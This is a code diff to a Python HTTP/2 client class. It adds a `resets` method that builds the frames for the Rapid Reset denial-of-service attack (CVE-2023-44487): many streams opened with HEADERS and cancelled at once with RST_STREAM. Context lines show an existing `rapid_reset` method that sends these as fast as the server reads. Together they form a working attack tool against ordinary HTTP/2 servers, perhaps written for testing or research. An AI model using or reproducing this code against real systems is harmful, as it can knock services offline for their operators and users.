@@ -47,8 +47,11 @@ class Connection:
         self.received = b""
         self.closed = False  # by the peer
         self.next_stream = 1
-        if preface:
+        try:
             self.socket.sendall(preface)
+        except OSError:
+            self.socket.close()
+            raise
 
     def close(self):
         self.socket.close()
@@ -106,6 +109,17 @@ class Connection:
         # The newest entry has the lowest index.
         return (b"".join(hpack_field(name, value, indexed=True) for name, value in fields),
                 bytes(0x80 | (first + len(fields) - 1 - i) for i in range(len(fields))))
+
+    def resets(self, path, count, **fields):
+        """The bytes that open so many streams and cancel them at once (CVE-2023-44487)."""
+        block, repeated = self.index_request(path, **fields)
+        out = bytearray()
+        for _ in range(count):
+            stream = self.take_stream()
+            out += frame(HEADERS, END_HEADERS, stream, block)
+            out += frame(RST_STREAM, 0, stream, CANCEL)
+            block = repeated
+        return bytes(out)
 
     def rapid_reset(self, path, seconds, batch=500, **fields):
         """Opens streams and cancels them at once, as fast as the peer reads (CVE-2023-44487). How many."""
